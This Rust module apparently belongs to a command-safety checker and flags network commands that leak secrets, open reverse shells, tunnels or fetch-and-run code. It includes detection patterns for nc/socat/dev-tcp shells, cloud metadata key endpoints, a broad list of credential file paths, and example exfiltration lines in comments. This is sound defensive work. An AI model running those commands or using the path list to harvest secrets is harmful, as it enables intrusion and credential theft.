//! Commands that fetch, send, or open a way in.

use super::deed::{CHANGING, Deed, GIVING, Sort};
use super::shell::Command;
use super::unwrap;
use crate::lexicon::Senses;
use crate::target;

/// Reads one command that talks to a network. `before` are the commands in
/// front of it, the nearest last.
pub fn read(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
    match command.program() {
        "curl" | "wget" | "http" | "https" | "xh" | "httpie" | "Invoke-WebRequest" | "iwr"
        | "Invoke-RestMethod" | "irm" => {
            request(command, before, deeds);
        }
        "scp" | "rsync" | "sftp" | "rclone" | "ftp" | "lftp" => copies_away(command, deeds),
        "nc" | "ncat" | "netcat" | "socat" | "telnet" => raw(command, before, deeds),
        "aws" | "gsutil" | "gcloud" | "az" | "s3cmd" | "mc"
            if command.says(&["cp", "put", "mv", "upload"]) =>
        {
            to_store(command, deeds);
        }
        "mail" | "sendmail" | "mutt" | "mailx" | "swaks" => mails(command, before, deeds),
        "nslookup" | "dig" | "host" | "ping"
            if command.args().iter().any(|a| a.contains("$()")) =>
        {
            deeds.push(Deed::always(
                Sort::Leak,
                0.85,
                &["tells a stranger's name server what another command found"],
            ))
        }
        "ngrok" | "cloudflared" | "localtunnel" | "lt" | "bore" => {
            deeds.push(way_in(command, "opens this machine to the internet"))
        }
        "ssh" if command.flag('R') => {
            deeds.push(way_in(command, "lets another machine in through a tunnel"))
        }
        _ => {}
    }
    // A way in: a shell tied to a socket.
    if command.line().contains("/dev/tcp/")
        || command
            .redirects
            .iter()
            .any(|(_, f)| f.starts_with("/dev/tcp/"))
    {
        deeds.push(Deed::always(
            Sort::Access,
            0.95,
            &["gives a stranger's machine a shell on this one"],
        ));
    }
}

fn way_in(command: &Command, does: &str) -> Deed {
    Deed::new(
        Sort::Access,
        0.7,
        &[does],
        &[command.program(), " tunnel expose"].concat(),
        GIVING.and(Senses::EXEC).and(Senses::PUBLISH),
    )
}

/// The URL of a command, with or without its scheme.
pub fn url(command: &Command) -> Option<&str> {
    command
        .option(&["--url", "-Uri", "-uri"])
        .or_else(|| {
            command
                .args()
                .iter()
                .map(String::as_str)
                .find(|a| target::url_host(a).is_some())
        })
        .or_else(|| {
            command.operands().find(|o| {
                o.contains('.') && !o.starts_with(['.', '/', '@', '{']) && !o.contains([' ', '='])
            })
        })
}

fn request(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
    let Some(url) = url(command) else { return };
    let url = url.trim_matches('"');
    let host = target::url_host(url).unwrap_or_else(|| url.split('/').next().unwrap_or(url));
    if is_metadata(host)
        && !url.contains("instance-id")
        && !url.contains("placement")
        && (url.contains("credential")
            || url.contains("token")
            || url.contains("user-data")
            || url.contains("identity"))
    {
        deeds.push(Deed::always(
            Sort::Leak,
            0.8,
            &["takes the machine's own keys from `", host, "`"],
        ));
    }
    if is_here(host) {
        return;
    }
    if let Some(secret) = carried(command, before) {
        deeds.push(Deed::new(
            Sort::Leak,
            0.9,
            &["sends ", &secret, " to `", host, "`"],
            host,
            Senses::SEND.and(Senses::UPLOAD).and(Senses::SHARE),
        ));
    }
    super::http::by_command(command, url, deeds);
}

/// Addresses at which a cloud hands a machine its keys.
fn is_metadata(host: &str) -> bool {
    matches!(
        host,
        "169.254.169.254"
            | "metadata.google.internal"
            | "169.254.170.2"
            | "100.100.100.200"
            | "metadata"
    )
}

fn is_here(host: &str) -> bool {
    let host = host.split(':').next().unwrap_or(host);
    matches!(host, "localhost" | "127.0.0.1" | "0.0.0.0" | "[" | "::1")
        || host.ends_with(".localhost")
}

/// What a command carries away, when that is a secret.
fn carried(command: &Command, before: &[Command]) -> Option<String> {
    for (i, arg) in command.args().iter().enumerate() {
        let after_flag = i
            .checked_sub(1)
            .and_then(|i| command.args().get(i))
            .map_or("", String::as_str);
        let file = arg
            .split_once("=@")
            .map(|(_, f)| f)
            .or_else(|| arg.strip_prefix('@'))
            .or_else(|| arg.strip_prefix("--post-file="))
            .or_else(|| arg.strip_prefix("--upload-file="))
            .or_else(|| arg.strip_prefix("--body-file="))
            .or_else(|| {
                matches!(
                    after_flag,
                    "-T" | "--upload-file" | "-InFile" | "--post-file"
                )
                .then_some(arg.as_str())
            });
        if let Some(file) = file.map(|f| f.split(';').next().unwrap_or(f))
            && holds_secrets(file)
        {
            return Some(["`", file, "`"].concat());
        }
    }
    if command.piped && reads_input(command) {
        return source(before);
    }
    None
}

fn reads_input(command: &Command) -> bool {
    command
        .args()
        .iter()
        .any(|a| a.ends_with("@-") || a == "-" || a == "-T-" || a.ends_with("/dev/stdin"))
}

/// The secret at the beginning of a pipe.
fn source(before: &[Command]) -> Option<String> {
    for command in before.iter().rev() {
        if let Some(secret) = secret_of(command) {
            return Some(secret);
        }
        if !command.piped {
            return None;
        }
    }
    None
}

/// What a command shows, when it is a secret or a whole store of data.
pub fn secret_of(command: &Command) -> Option<String> {
    match command.program() {
        "env" | "printenv" | "set" | "export" if command.operands().count() <= 1 => {
            Some("the environment's secrets".to_owned())
        }
        "pg_dump" | "pg_dumpall" | "mysqldump" | "mongodump" | "mariadb-dump" => {
            Some("a whole database".to_owned())
        }
        "cat" | "tar" | "zip" | "base64" | "gzip" | "head" | "tail" | "less" | "xxd" | "gpg"
        | "openssl" | "cp" | "grep" | "type" | "strings" | "sed" | "awk" | "7z" => command
            .operands()
            .chain(
                command
                    .redirects
                    .iter()
                    .filter(|(op, _)| *op == "<")
                    .map(|(_, f)| f.as_str()),
            )
            .find(|o| holds_secrets(o))
            .map(|o| ["`", o, "`"].concat()),
        "security" if command.says(&["find-generic-password", "dump-keychain"]) => {
            Some("the keychain".to_owned())
        }
        "gcloud" | "aws" | "az" | "gh" | "vault" | "kubectl" | "op" | "pass" => {
            let line = command.line();
            (line.contains("print-access-token")
                || line.contains("get-secret-value")
                || line.contains("auth token")
                || line.contains("get secret")
                || line.contains("secret show")
                || line.contains("kv get")
                || line.contains("get-session-token")
                || line.starts_with("op read")
                || line.starts_with("pass show"))
            .then(|| "a credential".to_owned())
        }
        _ => None,
    }
}

/// True for a path where secrets are kept.
pub fn holds_secrets(path: &str) -> bool {
    let path = path.trim_end_matches('/');
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    let sample = ["example", "sample", "template", ".pub", "test", ".md"]
        .iter()
        .any(|s| name.contains(s));
    let folder = [
        ".ssh",
        ".aws",
        ".gnupg",
        ".kube",
        ".docker",
        ".azure",
        "secrets",
        ".config/gcloud",
        "serviceaccount",
    ]
    .iter()
    .any(|d| {
        path.split_inclusive('/')
            .any(|p| p.trim_end_matches('/') == *d)
            || path.contains(d) && d.contains('/')
    });
    let file = name.starts_with(".env")
        || matches!(
            name.as_str(),
            "id_rsa"
                | "id_ed25519"
                | "id_ecdsa"
                | "id_dsa"
                | "credentials"
                | "credentials.json"
                | ".netrc"
                | ".pgpass"
                | "shadow"
                | ".npmrc"
                | ".pypirc"
                | "kubeconfig"
                | ".htpasswd"
                | ".git-credentials"
                | "secrets.yaml"
                | "secrets.yml"
                | "secrets.json"
                | "master.key"
                | "terraform.tfstate"
                | ".my.cnf"
                | "wallet.dat"
                | "login.keychain-db"
                | "logins.json"
                | "environ"
                | "passwd"
                | ".vault-token"
                | "token"
                | "cookies.sqlite"
                | "service-account.json"
                | "admin.conf"
        )
        || [
            ".pem",
            ".key",
            ".p12",
            ".pfx",
            ".kdbx",
            ".keystore",
            ".jks",
            ".tfstate",
        ]
        .iter()
        .any(|e| name.ends_with(e));
    !sample && (folder || file)
}

fn copies_away(command: &Command, deeds: &mut Vec<Deed>) {
    let operands: Vec<&str> = command.operands().collect();
    let Some((to, from)) = operands.split_last() else {
        return;
    };
    if !to.contains(':') || to.starts_with("C:") {
        return;
    }
    if let Some(secret) = from.iter().find(|f| holds_secrets(f) && !f.contains(':')) {
        deeds.push(Deed::new(
            Sort::Leak,
            0.85,
            &["copies `", secret, "` to `", to, "`"],
            to,
            Senses::SEND
                .and(Senses::UPLOAD)
                .and(Senses::SHARE)
                .and(CHANGING),
        ));
    }
}

/// A secret copied into a store of files in a cloud.
fn to_store(command: &Command, deeds: &mut Vec<Deed>) {
    let to = command
        .operands()
        .find(|o| o.contains("://"))
        .unwrap_or("the cloud");
    if let Some(secret) = command
        .operands()
        .find(|o| holds_secrets(o) && !o.contains("://"))
    {
        deeds.push(Deed::new(
            Sort::Leak,
            0.8,
            &["copies `", secret, "` to `", to, "`"],
            to,
            Senses::SEND
                .and(Senses::UPLOAD)
                .and(Senses::SHARE)
                .and(CHANGING),
        ));
    }
}

fn raw(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
    let line = command.line();
    if command.flag('e')
        || line.contains("EXEC:")
        || line.contains("SYSTEM:")
        || command.has("--exec")
        || command.flag('c') && command.program() != "socat" && line.contains("sh")
    {
        deeds.push(Deed::always(
            Sort::Access,
            0.95,
            &["gives a stranger's machine a shell on this one"],
        ));
        return;
    }
    let host = command.operand(0);
    if command.flag('z') || is_here(host) {
        return;
    }
    let input = command
        .redirects
        .iter()
        .find(|(op, f)| *op == "<" && holds_secrets(f))
        .map(|(_, f)| f.clone());
    let secret = input.or_else(|| if command.piped { source(before) } else { None });
    if let Some(secret) = secret {
        deeds.push(Deed::new(
            Sort::Leak,
            0.9,
            &["sends ", &secret, " to `", host, "`"],
            host,
            Senses::SEND.and(Senses::UPLOAD),
        ));
    }
}

fn mails(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
    let to = command
        .operands()
        .find(|o| o.contains('@'))
        .unwrap_or("somebody");
    let attached = command
        .option(&["-a", "-A", "--attach"])
        .filter(|f| holds_secrets(f))
        .map(str::to_owned);
    let input = command
        .redirects
        .iter()
        .find(|(op, f)| *op == "<" && holds_secrets(f))
        .map(|(_, f)| f.clone());
    let secret = attached
        .or(input)
        .or_else(|| if command.piped { source(before) } else { None });
    if let Some(secret) = secret {
        deeds.push(Deed::new(
            Sort::Leak,
            0.85,
            &["mails ", &secret, " to `", to, "`"],
            to,
            Senses::SEND.and(Senses::SHARE),
        ));
    }
}

/// A secret that stands in a substitution and goes out with the command around
/// it: `curl https://x/?k=$(cat ~/.ssh/id_rsa)`.
pub fn substituted(commands: &[Command], deeds: &mut Vec<Deed>) {
    let Some(out) = commands.iter().find(|c| {
        matches!(c.program(), "nslookup" | "dig" | "host" | "ping")
            && c.args().iter().any(|a| a.contains('$'))
            || matches!(c.program(), "curl" | "wget" | "nc" | "ncat" | "http")
                && c.args().iter().any(|a| a.contains("$()") && !is_header(a))
    }) else {
        return;
    };
    let Some(secret) = commands.iter().find_map(secret_of) else {
        return;
    };
    let url = url(out).unwrap_or("the network");
    let host = target::url_host(url).unwrap_or(url);
    if is_here(host) {
        return;
    }
    let mut deed = Deed::new(
        Sort::Leak,
        0.9,
        &["sends ", &secret, " to `", host, "`"],
        host,
        Senses::SEND.and(Senses::UPLOAD).and(Senses::SHARE),
    );
    deed.text = out.line();
    deeds.push(deed);
}

fn is_header(arg: &str) -> bool {
    let lower = arg.to_ascii_lowercase();
    lower.starts_with("authorization:")
        || lower.starts_with("x-")
        || lower.starts_with("private-token")
        || lower.starts_with("cookie")
}

/// Code that is fetched and run unseen: `curl … | sh`, `bash <(curl …)`,
/// `sh -c "$(curl …)"`, `wget x -O i.sh && sh i.sh`.
pub fn fetched_and_run(commands: &[Command], deeds: &mut Vec<Deed>) {
    let fetches = |c: &Command| {
        matches!(
            c.program(),
            "curl" | "wget" | "fetch" | "iwr" | "irm" | "Invoke-WebRequest" | "aria2c"
        )
    };
    for (i, command) in commands.iter().enumerate() {
        let runs = unwrap::is_shell(command.program()) && command.program() != "su"
            || matches!(
                command.program(),
                "python"
                    | "python3"
                    | "perl"
                    | "ruby"
                    | "node"
                    | "php"
                    | "iex"
                    | "IEX"
                    | "Invoke-Expression"
                    | "eval"
                    | "pwsh"
            );
        if !runs {
            continue;
        }
        let before = &commands[..i];
        let piped = command.piped && {
            let start = before.iter().rposition(|c| !c.piped).unwrap_or(0);
            before[start..].iter().any(fetches)
        };
        let lower = command.program().to_ascii_lowercase();
        let downloads = matches!(lower.as_str(), "iex" | "invoke-expression")
            && commands[i..]
                .iter()
                .any(|c| fetches(c) || c.line().contains("DownloadString"));
        let hidden = command.piped
            && before.last().is_some_and(|c| {
                matches!(
                    c.program(),
                    "base64" | "xxd" | "openssl" | "gpg" | "uudecode" | "rev"
                )
            });
        // A substitution's commands stand behind the one they belong to.
        let substituted = command.args().iter().any(|a| a.contains("$()"))
            && commands[i + 1..].iter().any(fetches);
        let file = command.operand(0);
        let saved = !file.is_empty() && before.iter().any(|c| fetches(c) && saves_as(c, file));
        let from = before
            .iter()
            .chain(&commands[i + 1..])
            .find(|c| fetches(c))
            .and_then(url)
            .unwrap_or("elsewhere");
        if piped || substituted || saved || downloads {
            let mut deed = Deed::new(
                Sort::Unseen,
                0.85,
                &["runs what `", from, "` gives, unseen"],
                house(from),
                Senses::EXEC.and(CHANGING),
            );
            deed.text = [from, " | ", &command.line()].concat();
            deeds.push(deed);
        } else if hidden {
            deeds.push(Deed::always(
                Sort::Unseen,
                0.85,
                &["runs code that is hidden in an encoding"],
            ));
        }
    }
    for (i, command) in commands.iter().enumerate() {
        let program = command.words.first().map_or("", String::as_str);
        let made = commands[..i]
            .iter()
            .any(|c| fetches(c) && saves_as(c, program));
        let runnable = commands[..i].iter().any(|c| {
            c.program() == "chmod" && c.operands().any(|o| super::command::name(o) == program)
        });
        if made && runnable {
            let from = commands
                .iter()
                .find(|c| fetches(c))
                .and_then(url)
                .unwrap_or("elsewhere");
            deeds.push(Deed::new(
                Sort::Unseen,
                0.85,
                &["runs what `", from, "` gives, unseen"],
                house(from),
                Senses::EXEC.and(CHANGING),
            ));
        }
    }
}

/// The host of a URL: what the user must have named to trust what it gives.
fn house(url: &str) -> &str {
    target::url_host(url).unwrap_or(url)
}

fn saves_as(fetch: &Command, file: &str) -> bool {
    let name = super::command::name(file);
    let output = fetch.option(&["-o", "-O", "--output", "--output-document", "-OutFile"]);
    output.is_some_and(|o| super::command::name(o) == name)
        || fetch
            .written()
            .any(|(_, f)| super::command::name(f) == name)
        || url(fetch).is_some_and(|u| {
            super::command::name(u) == name && (fetch.flag('O') || fetch.program() == "wget")
        })
}
